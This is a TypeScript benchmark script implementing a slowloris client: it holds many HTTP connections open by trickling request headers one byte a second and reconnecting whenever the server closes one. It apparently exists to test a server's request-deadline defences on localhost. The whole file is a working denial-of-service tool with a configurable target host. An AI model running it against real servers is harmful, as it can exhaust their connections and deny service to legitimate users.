/**
 * bench/trickle.ts: the slowloris client. Opens N connections to a server and sends on each a
 * request head one byte a second, never finishing it; when the server closes one (a 408 at its
 * request deadline, a 503, a reset), it opens another in its place a moment later, as a real
 * attacker would, so the pressure lasts as long as this process does.
 *
 *   node --import tsx bench/trickle.ts --port 7890 --count 150
 *
 * It runs as its own process so that its sockets are not the bench's. It prints one JSON line
 * once the first N connections are open (or failed to), then, for each line "status" on
 * stdin, how many are open and what the server answered so far. It exits when stdin closes.
 */
import net from 'node:net';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    host: { type: 'string', default: '127.0.0.1' },
    port: { type: 'string' },
    count: { type: 'string' },
    // Connections being opened at once (as in bench/hold-connections.ts: not to overflow the backlog).
    parallel: { type: 'string', default: '100' },
    // A pause before opening a replacement: without it, a server that answers at once (05's 503)
    // would have this process reconnect in a loop as fast as the cores allow.
    'reconnect-ms': { type: 'string', default: '100' },
  },
});
const port = Number(values.port);
const count = Number(values.count);
const parallel = Number(values.parallel);
const reconnectMs = Number(values['reconnect-ms']);

/** A head that never ends: after the request line, one long header, one byte a second. */
const HEAD = `GET /hello.txt HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nX-Trickle: `;
const STEP_MS = 1000;

let open = 0;
let connections = 0;
let stopping = false;
/** What the server's first bytes said when it closed a connection ("408", "503", "no answer"). */
const closes = new Map<string, number>();

/** One trickling connection; resolves once it is open (or failed to open). */
function trickle(): Promise<void> {
  return new Promise((resolve) => {
    connections += 1;
    const socket = net.connect({ host: values.host!, port });
    let sent = 0;
    let answer = '';
    let timer: NodeJS.Timeout | undefined;
    const sendByte = () => {
      const byte = sent < HEAD.length ? HEAD[sent]! : 'a';
      sent += 1;
      socket.write(byte);
      timer = setTimeout(sendByte, STEP_MS);
    };
    socket.once('connect', () => {
      open += 1;
      sendByte();
      resolve();
    });
    socket.on('data', (chunk: Buffer) => (answer += chunk.toString('latin1').slice(0, 64)));
    socket.on('error', () => undefined);
    socket.once('close', () => {
      clearTimeout(timer);
      if (sent > 0) open -= 1;
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1] ?? (sent > 0 ? 'closed, no answer' : 'not connected');
      closes.set(status, (closes.get(status) ?? 0) + 1);
      resolve();
      if (!stopping) setTimeout(() => void trickle(), reconnectMs);
    });
  });
}

async function opener(share: number): Promise<void> {
  for (let i = 0; i < share; i += 1) await trickle();
}

const shares = Array.from({ length: Math.min(parallel, count) }, (_, i) => Math.floor(count / parallel) + (i < count % parallel ? 1 : 0));
await Promise.all(shares.map(opener));
const report = (event: string) => process.stdout.write(`${JSON.stringify({ event, open, connections, closes: Object.fromEntries(closes) })}\n`);
report('ready');

process.stdin.setEncoding('utf8');
process.stdin.on('data', (text: string) => {
  for (const line of text.split('\n')) if (line.trim() === 'status') report('status');
});
process.stdin.on('end', () => {
  stopping = true;
  process.exit(0);
});
